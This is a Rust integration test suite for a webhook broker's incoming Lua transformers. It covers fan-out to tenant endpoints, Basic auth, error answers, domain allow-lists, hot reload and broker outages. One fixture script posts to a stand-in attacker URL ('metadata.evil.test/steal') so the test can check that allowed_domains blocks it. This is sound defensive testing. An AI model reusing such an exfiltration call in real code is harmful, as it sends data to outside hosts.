//! Incoming transformers (SPEC §7) on the real broker: a HOWK-style script fans one body out
//! to three endpoints, each delivered through its tenant's delivery script; Basic auth, the
//! answers for unknown names and script errors, `allowed_domains`, reload on change and on
//! SIGHUP, and a stopped broker (503, nothing half-written).

use std::collections::HashSet;
use std::path::Path;
use std::time::Duration;

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::helpers::howk::Howk;
use crate::helpers::own_broker::OwnBroker;
use crate::helpers::sink::WebhookSink;
use crate::helpers::wait_for;

/// In the style of HOWK's transformer docs: decode the body, post it to each route of the
/// config, with the route's tenant as config_id.
const FANOUT: &str = r#"
local ok, event = pcall(json.decode, incoming)
if not ok then error("the body is not JSON: " .. tostring(event)) end
log.info("fanning out", {type = event.type})
for i, route in ipairs(config.routes) do
  local id, err = howk.post(route.endpoint, {type = event.type, order = event.order, price = event.price},
    {config_id = route.config_id, headers = {["X-Route"] = tostring(i), ["X-Event"] = headers["X-Event"]}})
  if not id then error(err) end
end
"#;

/// `howk run` with transformers from `dir`, checked for changes every `reload`.
async fn howk_with(dir: &Path, reload: &str, extra: &[(&str, &str)]) -> Howk {
    let dirs = dir.display().to_string();
    let mut env = vec![
        ("HOWK_TRANSFORMER_ENABLED", "true"),
        ("HOWK_TRANSFORMER_SCRIPT_DIRS", dirs.as_str()),
        ("HOWK_TRANSFORMER_RELOAD_INTERVAL", reload),
    ];
    env.extend_from_slice(extra);
    let mut howk = Howk::new(&env).await;
    howk.start_ready().await;
    howk
}

async fn post_incoming(
    howk: &Howk,
    name: &str,
    body: &str,
    auth: Option<(&str, &str)>,
) -> (StatusCode, Value, reqwest::header::HeaderMap) {
    let mut request = reqwest::Client::new()
        .post(howk.api(&format!("/incoming/{name}")))
        .header("X-Event", "shop")
        .body(body.to_owned());
    if let Some((user, password)) = auth {
        request = request.basic_auth(user, Some(password));
    }
    let response = request.send().await.unwrap();
    let status = response.status();
    let headers = response.headers().clone();
    let text = response.text().await.unwrap();
    let value = serde_json::from_str(&text).unwrap_or(Value::Null);
    (status, value, headers)
}

fn fanout_config(sink: &WebhookSink) -> String {
    let routes: Vec<Value> = ["a", "b", "c"]
        .iter()
        .map(|t| {
            json!({
                "endpoint": sink.url(&format!("fan-{t}")), "config_id": format!("tenant-{t}:1"),
            })
        })
        .collect();
    json!({"allowed_domains": ["127.0.0.1"], "routes": routes}).to_string()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_transformer_fans_one_body_out_through_each_tenants_delivery_script() {
    let sink = WebhookSink::start().await;
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("fanout.lua"), FANOUT).unwrap();
    std::fs::write(dir.path().join("fanout.json"), fanout_config(&sink)).unwrap();
    let mut howk = howk_with(dir.path(), "2s", &[]).await;
    for tenant in ["a", "b", "c"] {
        howk.put_script_ready(
            &format!("tenant-{tenant}:1"),
            &format!(r#"request.headers["X-Tenant"] = "{tenant}""#),
            None,
        )
        .await;
    }

    let body = r#"{"type": "order.placed", "order": 7, "price": 1.50}"#;
    let (status, answer, _) = post_incoming(&howk, "fanout", body, None).await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    assert_eq!(answer["count"], 3);
    let ids: Vec<&str> = answer["webhooks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["id"].as_str().unwrap())
        .collect();
    wait_for("three deliveries", Duration::from_secs(60), || async {
        (sink.total() >= 3).then_some(())
    })
    .await;
    for (i, tenant) in ["a", "b", "c"].iter().enumerate() {
        let received = sink.received(&format!("fan-{tenant}"));
        assert_eq!(received.len(), 1, "{tenant}");
        let request = &received[0];
        assert_eq!(
            request.header("x-tenant"),
            Some(*tenant),
            "its delivery script ran"
        );
        assert_eq!(
            request.header("x-route"),
            Some((i + 1).to_string().as_str())
        );
        assert_eq!(
            request.header("x-event"),
            Some("shop"),
            "request headers reach the script"
        );
        assert_eq!(request.header("x-webhook-id"), Some(ids[i]));
        let payload: Value = serde_json::from_slice(&request.body).unwrap();
        assert_eq!(
            payload,
            json!({"type": "order.placed", "order": 7, "price": 1.5})
        );
        assert_eq!(
            answer["webhooks"][i]["config_id"],
            format!("tenant-{tenant}:1")
        );
    }
    // Like REST enqueues: an accepted result per webhook, on the results topic.
    let mut results = howk.tail("results");
    results.until("3 delivered", Duration::from_secs(30), |records| {
        crate::helpers::howk::count_outcome(records, "delivered") >= 3
    });
    howk.stop();
}

#[tokio::test(flavor = "multi_thread")]
async fn transformers_answer_auth_unknown_names_script_errors_and_domains_precisely() {
    let sink = WebhookSink::start().await;
    let dir = tempfile::tempdir().unwrap();
    let hash = bcrypt::hash("s3cret", 4).unwrap();
    std::fs::write(
        dir.path().join("guarded.lua"),
        format!(r#"howk.post("{}", {{ok = true}})"#, sink.url("guarded")),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("guarded.passwd"),
        format!("# bcrypt and plaintext\nadmin:{hash}\ndev:devpass\n"),
    )
    .unwrap();
    std::fs::write(dir.path().join("broken.lua"), "error('no such luck')").unwrap();
    std::fs::write(
        dir.path().join("escape.lua"),
        r#"local id, err = howk.post("http://metadata.evil.test/steal", {})
           if not id then error(err) end"#,
    )
    .unwrap();
    std::fs::write(
        dir.path().join("escape.json"),
        r#"{"allowed_domains": ["127.0.0.1"]}"#,
    )
    .unwrap();
    std::fs::write(dir.path().join("misconfigured.lua"), "--").unwrap();
    std::fs::write(dir.path().join("misconfigured.json"), "{oops").unwrap();
    let mut howk = howk_with(dir.path(), "2s", &[]).await;

    let (status, _, headers) = post_incoming(&howk, "guarded", "{}", None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(headers["www-authenticate"], "Basic realm=\"howk\"");
    let (status, ..) = post_incoming(&howk, "guarded", "{}", Some(("admin", "nope"))).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let (status, ..) = post_incoming(&howk, "guarded", "{}", Some(("dev", "s3cret"))).await;
    assert_eq!(
        status,
        StatusCode::UNAUTHORIZED,
        "one user's password for another"
    );
    let (status, answer, _) =
        post_incoming(&howk, "guarded", "{}", Some(("admin", "s3cret"))).await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    let (status, answer, _) = post_incoming(&howk, "guarded", "{}", Some(("dev", "devpass"))).await;
    assert_eq!(status, StatusCode::OK, "{answer}");

    let (status, answer, _) = post_incoming(&howk, "nobody", "{}", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{answer}");
    let (status, answer, _) = post_incoming(&howk, "Bad..Name", "{}", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{answer}");

    let (status, answer, _) = post_incoming(&howk, "broken", "{}", None).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer}");
    assert_eq!(answer["error_type"], "script_runtime_error");
    assert!(
        answer["error"].as_str().unwrap().contains("no such luck"),
        "{answer}"
    );

    let (status, answer, _) = post_incoming(&howk, "escape", "{}", None).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer}");
    assert!(
        answer["error"]
            .as_str()
            .unwrap()
            .contains("allowed_domains"),
        "{answer}"
    );

    let (status, answer, _) = post_incoming(&howk, "misconfigured", "{}", None).await;
    assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR, "{answer}");

    // Two guarded requests went in, nothing else.
    wait_for("two deliveries", Duration::from_secs(60), || async {
        (sink.received("guarded").len() >= 2).then_some(())
    })
    .await;
    assert_eq!(sink.total(), 2);
    howk.stop();
}

#[tokio::test(flavor = "multi_thread")]
async fn transformers_reload_when_their_files_change_and_on_sighup() {
    let sink = WebhookSink::start().await;
    let watched = tempfile::tempdir().unwrap();
    let mut howk = howk_with(watched.path(), "200ms", &[]).await;
    let (status, ..) = post_incoming(&howk, "late", "{}", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let one = format!(r#"howk.post("{}", {{n = 1}})"#, sink.url("late"));
    std::fs::write(watched.path().join("late.lua"), &one).unwrap();
    wait_for("the new script served", Duration::from_secs(10), || async {
        let (status, ..) = post_incoming(&howk, "late", "{}", None).await;
        (status == StatusCode::OK).then_some(())
    })
    .await;
    let two = format!("{one}\n{one}");
    std::fs::write(watched.path().join("late.lua"), &two).unwrap();
    wait_for(
        "the changed script served",
        Duration::from_secs(10),
        || async {
            let (_, answer, _) = post_incoming(&howk, "late", "{}", None).await;
            (answer["count"] == 2).then_some(())
        },
    )
    .await;
    howk.stop();

    // Watching off: only SIGHUP reloads.
    let quiet = tempfile::tempdir().unwrap();
    let mut howk = howk_with(quiet.path(), "0s", &[]).await;
    std::fs::write(quiet.path().join("hup.lua"), &one).unwrap();
    let (status, ..) = post_incoming(&howk, "hup", "{}", None).await;
    assert_eq!(
        status,
        StatusCode::NOT_FOUND,
        "not reloaded without a signal"
    );
    let pid = howk.pid().unwrap().to_string();
    let kill = std::process::Command::new("kill")
        .args(["-HUP", &pid])
        .status()
        .unwrap();
    assert!(kill.success());
    wait_for(
        "the script served after SIGHUP",
        Duration::from_secs(10),
        || async {
            let (status, ..) = post_incoming(&howk, "hup", "{}", None).await;
            (status == StatusCode::OK).then_some(())
        },
    )
    .await;
    assert!(howk.running(), "SIGHUP does not stop howk");
    howk.stop();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stopped_broker_answers_503_and_nothing_is_half_written() {
    let sink = WebhookSink::start().await;
    let broker = OwnBroker::start();
    let address = format!("127.0.0.1:{}", broker.port);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("fanout.lua"), FANOUT).unwrap();
    std::fs::write(dir.path().join("fanout.json"), fanout_config(&sink)).unwrap();
    let mut howk = howk_with(
        dir.path(),
        "2s",
        &[
            ("HOWK_KAFKA_BROKERS", &address),
            ("HOWK_KAFKA_REQUEST_TIMEOUT", "3s"),
        ],
    )
    .await;
    let body = r#"{"type": "t", "order": 1, "price": 2}"#;
    let (status, first, _) = post_incoming(&howk, "fanout", body, None).await;
    assert_eq!(status, StatusCode::OK, "{first}");

    broker.stop();
    let (status, answer, _) = post_incoming(&howk, "fanout", body, None).await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{answer}");
    assert!(
        answer["error"]
            .as_str()
            .unwrap()
            .contains("nothing was accepted"),
        "{answer}"
    );
    broker.restart();
    let again = wait_for(
        "an answer after the restart",
        Duration::from_secs(60),
        || async {
            let (status, answer, _) = post_incoming(&howk, "fanout", body, None).await;
            (status == StatusCode::OK).then_some(answer)
        },
    )
    .await;

    // The pending topic holds the first and the last request's webhooks, and nothing of the
    // refused one: its records were never committed. Same keys, same partitions, so once the
    // last three are read anything committed before them has been read too.
    let ids = |answer: &Value| -> HashSet<String> {
        answer["webhooks"]
            .as_array()
            .unwrap()
            .iter()
            .map(|w| w["id"].as_str().unwrap().to_owned())
            .collect()
    };
    let expected: HashSet<String> = ids(&first).union(&ids(&again)).cloned().collect();
    let mut pending = crate::helpers::howk::Tail::new(&address, &howk.topic("pending"));
    let last = ids(&again);
    pending.until(
        "the last request's webhooks",
        Duration::from_secs(30),
        |records| {
            let seen: HashSet<String> = records
                .iter()
                .filter_map(|(_, value)| serde_json::from_slice::<Value>(value).ok())
                .filter_map(|v| v["id"].as_str().map(str::to_owned))
                .collect();
            last.is_subset(&seen)
        },
    );
    let seen: Vec<String> = pending
        .json()
        .iter()
        .map(|v| v["id"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(seen.len(), 6, "{seen:?}");
    assert_eq!(seen.into_iter().collect::<HashSet<_>>(), expected);
    // Not a clean stop: the instance's transactions went through a broker restart under a 3-s
    // request timeout, and its shutdown commit may time out (exit 1) — not what this test is
    // about. The api test of a stopped broker ends the same way.
    howk.kill();
}
